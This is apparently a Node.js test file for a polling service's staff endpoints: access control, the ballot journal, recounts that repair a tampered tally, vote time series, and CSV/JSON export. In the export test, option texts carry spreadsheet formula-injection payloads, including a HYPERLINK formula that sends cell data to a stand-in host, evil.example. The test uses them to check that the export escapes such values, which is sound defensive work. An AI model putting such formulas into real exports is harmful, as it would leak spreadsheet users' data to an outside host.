// polls_numbers.test.mjs - what comes out of a poll in numbers: its journal, the recount, the
// minutes, tables. Also as somebody who tampers with the tally, and as a spreadsheet that would
// run what it is given. SPDX-License-Identifier: MIT
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';

import { assertCounted, choicesText, makePoll, plainTally, recountOf, resultsOf } from '../support/ballots.mjs';
import { startSystem, waitFor } from '../support/system.mjs';

const password = 'a long enough password';
const unknown = '01ARZ3NDEKTSV4RRFFQ69G5FAV';
const pathOf = (poll, rest = '') => `/api/v1/polls/${poll.id}${rest}`;

let system;
const tokens = {};
before(async () => {
  system = await startSystem({ services: ['articles', 'comments', 'polls', 'polls#2'] });
  for (const [login, role] of [['ann', 'author'], ['eva', 'editor'], ['mod', 'moderator']]) {
    await system.make('/api/v1/accounts', { login, password, role });
    tokens[login] = await system.tokenFor(login, password);
  }
});
after(() => system?.stop());

const get = async (poll, rest, status = 200, options = {}) => {
  const got = await system.admin('GET', pathOf(poll, rest), options);
  assert.equal(got.status, status, `${rest}: ${got.text}`);
  return got;
};
let voters = 0;
const cast = async (poll, choices, options = {}) => {
  const got = await system.api('POST', pathOf(poll, '/ballots'), { body: { choices }, headers: { 'idempotency-key': `voter ${voters++}` }, ...options });
  assert.equal(got.status, 201, got.text);
  return got;
};
// Votes that go on while something else is done: gives what that gave, and how many were counted.
async function whileVoting(poll, act) {
  let over = false;
  let n = 0;
  const one = async () => { while (!over) { await cast(poll, [String(1 + n++ % poll.options.length)]); } };
  const all = Promise.all([one(), one(), one()]);
  try {
    await waitFor(() => n > 10, { what: 'votes come in' });
    return { value: await act(), votes: () => n };
  } finally {
    over = true;
    await all;
  }
}

describe('only editors', () => {
  test('read the journal, count again and export', async () => {
    const poll = await makePoll(system);
    for (const [method, rest, body] of [['GET', '/ballots'], ['GET', '/export'], ['POST', '/recount', {}]]) {
      for (const [who, status] of [[null, 401], ['mod', 403], ['ann', 403], ['eva', 200]]) {
        const got = await system.api(method, pathOf(poll, rest), { token: who ? tokens[who] : undefined, body });
        assert.equal(got.status, status, `${method} ${rest} by ${who}: ${got.text}`);
        if (status === 200) assert.equal(got.headers['cache-control'], 'private, no-store', rest);
      }
      for (const id of [unknown, 'x', poll.id.toLowerCase()]) {
        assert.equal((await system.admin(method, `/api/v1/polls/${id}${rest}`, { body })).status, 404, `${rest} of ${id}`);
      }
    }
    assert.equal((await system.admin('GET', `/api/v1/polls/${unknown}/series`)).status, 404);
  });
});

describe('the journal', () => {
  const page = async (poll, limit, cursor) => (await get(poll, `/ballots?limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`)).json;

  test('has every ballot once, in pages of any size, and what was taken back', async () => {
    const poll = await makePoll(system, { kind: 'multiple', changeable: true });
    assert.deepEqual(await page(poll, 10), { items: [], next_cursor: null });
    const wanted = [];
    const choices = [['1'], ['2'], ['1', '3'], ['4', '2'], ['1', '2', '3', '4']];
    const got = await Promise.all(Array.from({ length: 60 }, (_, i) => cast(poll, choices[i % choices.length])));
    got.forEach((each, i) => wanted.push([each.json.ballot_id, choicesText(choices[i % choices.length]), false]));
    const voter = { cookie: got[0].cookies, headers: { origin: system.urls.site } };
    await cast(poll, ['2'], voter);
    wanted.push([got[0].json.ballot_id, '1', true], [got[0].json.ballot_id, '2', false]);
    const back = await system.api('DELETE', pathOf(poll, '/ballots/mine'), { cookie: got[1].cookies, headers: { origin: system.urls.site } });
    assert.equal(back.status, 200, back.text);
    wanted.push([got[1].json.ballot_id, '2', true]);
    wanted.sort();
    for (const limit of [1, 7, 20, 62, 63, 64, 100]) {
      const all = [];
      let pages = 0;
      for (let cursor; cursor !== null; pages++) {
        const one = await page(poll, limit, cursor);
        assert.ok(one.items.length <= limit && (one.items.length === limit || one.next_cursor === null), `a page of ${limit}`);
        const ids = one.items.map((item) => item.ballot_id);
        assert.deepEqual(ids, [...ids].sort(), 'sorted, so that it is not the order in which they came');
        all.push(...one.items.map((item) => [item.ballot_id, choicesText(item.choices), item.retracts]));
        for (const item of one.items) assert.deepEqual(Object.keys(item), ['ballot_id', 'choices', 'retracts']);
        cursor = one.next_cursor;
      }
      assert.deepEqual(all.sort(), wanted, `pages of ${limit}`);
      assert.equal(pages, Math.ceil(63 / limit));
    }
  });

  test('tells no time, and takes no place that it has not given', async () => {
    const poll = await makePoll(system);
    const other = await makePoll(system);
    for (let i = 0; i < 3; i++) { await cast(poll, ['1']); await cast(other, ['1']); }
    const first = await get(poll, '/ballots?limit=1');
    const cursor = first.json.next_cursor;
    const bytes = Buffer.from(cursor, 'base64url').toString('latin1');
    const [entry] = await system.redis('XRANGE', `poll:{${poll.id}}:journal`, '-', '+', 'COUNT', 1);
    assert.ok(!first.text.includes(entry[0].split('-')[0].slice(0, 8)) && !bytes.includes(entry[0].slice(0, 8)), 'no time of the entry');
    assert.ok(bytes.startsWith('j'), bytes);
    const block = Buffer.from(bytes.slice(1), 'base64url');
    assert.equal(block.length, 16);
    for (let at = 0; at + 6 <= 16; at++) assert.ok(Math.abs(block.readUIntBE(at, 6) - Date.now()) > 86400000, 'nor in other words');
    block[3] ^= 1;
    const bent = Buffer.from(`j${block.toString('base64url')}`).toString('base64url');
    for (const odd of ['x', '', bent, Buffer.from('j0-0').toString('base64url'), Buffer.from(`p${poll.id}`).toString('base64url'),
      (await page(other, 1)).next_cursor]) {
      const got = await system.admin('GET', pathOf(poll, `/ballots?cursor=${encodeURIComponent(odd)}`));
      assert.equal(got.status, 400, `${odd}: ${got.text}`);
    }
    for (const limit of ['0', '101', 'x', '-1']) assert.equal((await system.admin('GET', pathOf(poll, `/ballots?limit=${limit}`))).status, 400, limit);
  });

  test('is read while votes come in: what was there is there', async () => {
    const poll = await makePoll(system);
    const { value } = await whileVoting(poll, async () => {
      const before = (await resultsOf(system, poll)).voters;
      const ids = [];
      for (let cursor; cursor !== null;) {
        const one = await page(poll, 9, cursor);
        ids.push(...one.items.map((item) => item.ballot_id));
        cursor = one.items.length < 9 ? null : one.next_cursor;
        if (ids.length > before) break;
      }
      return { before, ids };
    });
    assert.equal(new Set(value.ids).size, value.ids.length);
    assert.ok(value.ids.length >= value.before);
  });
});

describe('the recount', () => {
  const tamper = (poll, field, by) => system.redis('HINCRBY', `poll:{${poll.id}}:tally`, field, by);
  const start = (poll, body, options) => system.admin('POST', pathOf(poll, '/recount'), { body, ...options });

  test('of a poll without votes, and of one that has them', async () => {
    const poll = await makePoll(system);
    const none = await recountOf(system, poll);
    assert.deepEqual({ ...none, run: 0 }, { run: 0, done: true, entries: 0, upto: null, tally: { voters: 0, votes: 0, counts: { 1: 0, 2: 0, 3: 0, 4: 0 } },
      journal: { voters: 0, votes: 0, counts: { 1: 0, 2: 0, 3: 0, 4: 0 } }, equal: true, repaired: false, calls: 1 });
    for (const choice of ['1', '2', '2']) await cast(poll, [choice]);
    const some = await recountOf(system, poll, { repair: true });
    assert.deepEqual([some.equal, some.repaired, some.entries], [true, false, 3]);
    assert.deepEqual(some.journal, { voters: 3, votes: 3, counts: { 1: 1, 2: 2, 3: 0, 4: 0 } });
    assert.deepEqual(some.tally, some.journal);
    const again = await start(poll, { run: some.run });
    assert.deepEqual({ ...again.json, calls: 1 }, some, 'a run that is done says the same again');
    assert.equal((await system.admin('POST', pathOf(poll, '/recount'))).status, 200, 'without a body');
  });

  test('is asked for properly', async () => {
    const poll = await makePoll(system);
    const other = await makePoll(system);
    const { run } = await recountOf(system, other);
    for (const [body, status] of [[{ run: unknown }, 404], [{ run }, 404], [{ run: 'x' }, 422], [{ run: 7 }, 422], [{ repair: 'yes' }, 422], ['[]', 422], ['{', 400]]) {
      const got = await start(poll, body);
      assert.equal(got.status, status, `${JSON.stringify(body)}: ${got.text}`);
    }
    const closed = await system.admin('POST', pathOf(other, '/close'));
    assert.equal(closed.status, 200);
    assert.equal((await recountOf(system, other)).equal, true, 'also of a closed poll');
    const gone = await system.admin('DELETE', pathOf(other), { headers: { 'if-match': '*' } });
    assert.equal(gone.status, 204, gone.text);
    assert.equal((await start(other, { run })).status, 404);
  });

  test('says equal while votes are being cast, changed and taken back', async () => {
    const poll = await makePoll(system, { changeable: true });
    const { value } = await whileVoting(poll, async () => {
      const found = [];
      for (let i = 0; i < 10; i++) {
        const voter = { cookie: (await cast(poll, ['1'])).cookies, headers: { origin: system.urls.site } };
        await cast(poll, ['2'], voter);
        found.push(await recountOf(system, poll));
        await system.api('DELETE', pathOf(poll, '/ballots/mine'), voter);
      }
      return found;
    });
    for (const one of value) assert.ok(one.equal && !one.repaired, JSON.stringify(one));
    assert.ok(value.at(-1).entries > value[0].entries);
  });

  test('goes in pieces over a long journal, with any instance, while votes come in', async () => {
    const poll = await makePoll(system);
    // As if 25,000 had voted one by one. Redis is not to be held up for long by it.
    const fill = `for i = 1, 500 do for o = 1, 2 do
      redis.call('XADD', KEYS[1], '*', o, string.format('%010d', i)) end end
      local last = redis.call('XREVRANGE', KEYS[1], '+', '-', 'COUNT', 1)[1][1]
      redis.call('HSET', KEYS[2], 'entry', last)
      for _, name in ipairs{'1', '2'} do redis.call('HINCRBY', KEYS[2], name, 500) end
      for _, name in ipairs{'voters', 'votes', 'marks'} do redis.call('HINCRBY', KEYS[2], name, 1000) end`;
    for (let i = 0; i < 25; i++) await system.redis('EVAL', fill, 2, `poll:{${poll.id}}:journal`, `poll:{${poll.id}}:tally`);
    const { value } = await whileVoting(poll, async () => {
      const first = await start(poll, {});
      assert.deepEqual([first.json.done, first.json.tally, first.json.journal, first.json.equal, first.json.repaired], [false, null, null, null, false]);
      let next = first;
      for (let calls = 1; !next.json.done; calls++) {
        assert.ok(calls < 20, 'it comes to an end');
        const before = next.json.entries;
        next = await start(poll, { run: first.json.run });
        assert.equal(next.status, 200, next.text);
        assert.ok(next.json.done || next.json.entries > before);
      }
      return next.json;
    });
    assert.equal(value.equal, true, JSON.stringify(value));
    assert.ok(value.entries >= 25000);
  });

  test('finds a tally that was tampered with, and mends it while votes come in', async () => {
    const poll = await makePoll(system);
    for (const choice of ['1', '1', '2']) await cast(poll, [choice]);
    const watcher = await system.sse(`poll:${poll.id}`);
    const { value, votes } = await whileVoting(poll, async () => {
      await tamper(poll, '1', 1000);
      await tamper(poll, '2', -1);
      await tamper(poll, 'votes', 7);
      await tamper(poll, 'voters', 5);
      const found = await recountOf(system, poll);
      assert.deepEqual([found.equal, found.repaired], [false, false]);
      assert.equal(found.tally.counts[1] - found.journal.counts[1], 1000);
      assert.equal(found.tally.counts[2] - found.journal.counts[2], -1);
      assert.equal((await recountOf(system, poll)).equal, false, 'without being asked it mends nothing');
      const mended = await recountOf(system, poll, { repair: true });
      assert.deepEqual([mended.equal, mended.repaired], [false, true]);
      return { mended, version: (await resultsOf(system, poll)).version };
    });
    const recount = await recountOf(system, poll);
    assert.equal(recount.equal, true, JSON.stringify(recount));
    const results = await resultsOf(system, poll);
    assert.deepEqual(plainTally(results), plainTally(recount.journal));
    assert.equal(results.voters, 3 + votes());
    assert.ok(results.version >= value.version);
    await waitFor(() => watcher.events.some(({ data }) => data.voters === results.voters && data.votes === results.votes), { what: 'those who watch see the mended numbers' });
    watcher.close();
  });

  test('mends also what cannot even be read any more', async () => {
    const poll = await makePoll(system);
    await cast(poll, ['1']);
    await tamper(poll, '3', -5);
    const found = await recountOf(system, poll, { repair: true });
    assert.deepEqual([found.equal, found.repaired, found.tally.counts[3]], [false, true, -5]);
    assert.deepEqual(plainTally(await resultsOf(system, poll)), { voters: 1, votes: 1, counts: { 1: 1 } });
  });
});

describe('the series', () => {
  const minute = (ms) => new Date(Math.floor(ms / 60000) * 60000).toISOString().replace('.000', '');
  const sum = (points) => points.reduce((all, [, counts]) => {
    for (const [id, n] of Object.entries(counts)) all[id] = (all[id] ?? 0) + n;
    return all;
  }, {});

  test('adds up to the results', async () => {
    const poll = await makePoll(system, { kind: 'multiple', changeable: true });
    const began = Date.now();
    assert.deepEqual((await get(poll, '/series')).json.points, []);
    const first = await cast(poll, ['1', '2']);
    await Promise.all(Array.from({ length: 30 }, (_, i) => cast(poll, [String(1 + i % 3)])));
    await cast(poll, ['4'], { cookie: first.cookies, headers: { origin: system.urls.site } });
    const { json, headers } = await get(poll, '/series');
    assert.deepEqual([json.poll_id, json.interval], [poll.id, 'minute']);
    assert.deepEqual(sum(json.points), { 1: 10, 2: 10, 3: 10, 4: 1 });
    assert.ok(json.points.length <= 2 && Date.parse(json.points[0][0]) >= Date.parse(minute(began)), JSON.stringify(json));
    assert.equal(Date.parse(json.to) - Date.parse(json.from), 1440 * 60000);
    assert.equal(headers['cache-control'], 'public, max-age=0, s-maxage=2');
    assert.ok(headers.etag);
  });

  test('of any span of up to a day', async () => {
    const poll = await makePoll(system, { options: 12 });
    const key = `poll:{${poll.id}}:series`;
    const base = Math.floor(Date.parse('2026-01-05T10:00:00Z') / 60000);
    // 12 before 2, as a function may write it; a vote taken back; a minute in which nothing was left.
    await system.redis('HSET', key, base, '12 1 2 3', base + 1, '1 -1', base + 2, '', base + 719, '1 1', base + 720, '1 2', base + 1439, '1 4', base + 1440, '1 8');
    const span = (from, to) => get(poll, `/series?from=${from}&to=${to}`);
    const whole = (await span('2026-01-05T10:00:00Z', '2026-01-06T10:00:00Z')).json;
    assert.deepEqual(whole.points, [['2026-01-05T10:00:00Z', { 2: 3, 12: 1 }], ['2026-01-05T10:01:00Z', { 1: -1 }], ['2026-01-05T21:59:00Z', { 1: 1 }],
      ['2026-01-05T22:00:00Z', { 1: 2 }], ['2026-01-06T09:59:00Z', { 1: 4 }]]);
    const part = (await span('2026-01-05T11:00:30%2B01:00', '2026-01-05T10:00:31Z')).json;
    assert.deepEqual([part.from, part.to, part.points.length], ['2026-01-05T10:00:00Z', '2026-01-05T10:01:00Z', 1], 'minutes are whole');
    assert.deepEqual((await get(poll, '/series?from=2026-01-06T10:00:00Z')).json.points, [['2026-01-06T10:00:00Z', { 1: 8 }]]);
    assert.equal((await get(poll, '/series?to=2026-01-05T10:02:00Z')).json.points.length, 2);
    const rows = [['from=x', '?from'], ['to=2026', '?to'], ['from=', '?from'], ['from=2026-01-05T10:00:00Z&to=2026-01-06T10:00:01Z', '?from'],
      ['from=2026-01-05T10:00:00Z&to=2026-01-05T10:00:00Z', '?to'], ['from=2026-01-06T10:00:00Z&to=2026-01-05T10:00:00Z', '?to']];
    for (const [query, pointer] of rows) {
      const got = await system.api('GET', pathOf(poll, `/series?${query}`));
      assert.equal(got.status, 400, `${query}: ${got.text}`);
      assert.deepEqual(got.problem.errors.map((e) => e.pointer), [pointer], query);
    }
    for (const query of ['from=9999-01-01T00:00:00Z', 'to=1970-01-01T00:00:01Z', 'from=1970-01-01T00:00:00Z']) assert.deepEqual((await get(poll, `/series?${query}`)).json.points, [], query);
  });

  test('ends with the poll', async () => {
    const poll = await makePoll(system);
    await cast(poll, ['1']);
    const closed = await system.admin('POST', pathOf(poll, '/close'));
    const { to } = (await get(poll, '/series')).json;
    assert.ok(Date.parse(to) > Date.parse(closed.json.closes_at) && Date.parse(to) - Date.parse(closed.json.closes_at) <= 60000);
  });

  test('is hidden with the results', async () => {
    const poll = await makePoll(system, { results: 'after_vote' });
    const nothing = JSON.stringify({ poll_id: poll.id, interval: 'minute', from: null, to: null, points: null });
    const stranger = () => system.api('GET', pathOf(poll, '/series?from=2026-01-05T10:00:00Z'));
    const before = await stranger();
    assert.equal(before.text, nothing);
    const voter = await cast(poll, ['2']);
    const now = await stranger();
    assert.deepEqual([now.text, now.headers.etag, now.headers['cache-control']], [nothing, before.headers.etag, 'private, no-store']);
    const own = await system.api('GET', pathOf(poll, '/series'), { cookie: voter.cookies });
    assert.deepEqual(sum(own.json.points), { 2: 1 });
    assert.equal(own.headers['cache-control'], 'private, no-store');
  });
});

describe('the export', () => {
  // A reader of RFC 4180 that takes nothing else.
  function parse(text) {
    assert.ok(text.startsWith('\ufeff') && text.endsWith('\r\n'), JSON.stringify(text));
    const rows = [[]];
    const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
    cell.lastIndex = 1;
    for (let found; cell.lastIndex < text.length && (found = cell.exec(text));) {
      rows.at(-1).push(found[1] === undefined ? found[2] : found[1].replaceAll('""', '"'));
      if (found[3] === '\r\n') rows.push([]);
    }
    assert.equal(rows.pop().length, 0);
    return rows;
  }

  test('is a table that no spreadsheet runs', async () => {
    const texts = ['=HYPERLINK("http://evil.example/?"&A1,"Tea, black")', '+1', '-1', '@SUM(A1:A9)', 'Ü "quoted", with comma', 'two\nlines', "it's", '\u{1F375}'];
    const poll = await system.make('/api/v1/polls', { question: '=1+1', kind: 'single', results: 'staff', options: texts.map((text) => ({ text })) });
    for (const choice of ['1', '1', '5']) await cast(poll, [choice]);
    const got = await get(poll, '/export?format=csv');
    assert.equal(got.headers['content-type'], 'text/csv; charset=utf-8');
    assert.equal(got.headers['content-disposition'], `attachment; filename="poll-${poll.id}.csv"`);
    assert.deepEqual([...got.bytes.subarray(0, 3)], [0xEF, 0xBB, 0xBF]);
    const rows = parse(got.text);
    assert.deepEqual(rows[0], ['option_id', 'option', 'votes', 'percent']);
    const safe = (text) => /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
    const votes = { 1: 2, 5: 1 };
    const percent = { 1: 67, 5: 33 };
    assert.deepEqual(rows.slice(1), texts.map((text, i) => [String(i + 1), safe(text), String(votes[i + 1] ?? 0), String(percent[i + 1] ?? 0)]));
    assert.equal((await system.admin('HEAD', pathOf(poll, '/export?format=csv'))).status, 200);
  });

  test('is JSON with all that is known', async () => {
    const poll = await makePoll(system, { options: 3, kind: 'multiple' });
    const none = (await get(poll, '/export')).json;
    assert.deepEqual(none.options.map(({ percent }) => percent), [0, 0, 0], 'nothing of nothing');
    for (const choices of [['1', '2', '3'], ['1'], ['2'], ['3']]) await cast(poll, choices);
    const got = await get(poll, '/export?format=json');
    assert.equal(got.headers['content-type'], 'application/json');
    assert.equal(got.headers['content-disposition'], `attachment; filename="poll-${poll.id}.json"`);
    const { poll: record, results, options, exported_at: at } = got.json;
    assert.deepEqual(record, (await get(poll, '')).json);
    assert.deepEqual(results, await resultsOf(system, poll));
    assert.deepEqual(options, [{ id: '1', text: 'Option 1', votes: 2, percent: 34 }, { id: '2', text: 'Option 2', votes: 2, percent: 33 }, { id: '3', text: 'Option 3', votes: 2, percent: 33 }]);
    assert.ok(Math.abs(Date.parse(at) - Date.now()) < 60000);
    for (const format of ['xml', '', 'CSV']) {
      const bad = await system.admin('GET', pathOf(poll, `/export?format=${format}`));
      assert.equal(bad.status, 400, bad.text);
      assert.deepEqual(bad.problem.errors.map((e) => e.pointer), ['?format']);
    }
  });

  test('of an archived poll stays', async () => {
    const poll = await makePoll(system);
    await cast(poll, ['1']);
    for (const word of ['close', 'archive']) assert.equal((await system.admin('POST', pathOf(poll, `/${word}`))).status, 200);
    assert.equal((await get(poll, '/export')).json.results.votes, 1);
    const { ballot_id: id } = (await get(poll, '/ballots')).json.items[0];
    await assertCounted(system, poll, new Map([[id, '1']]));
  });
});
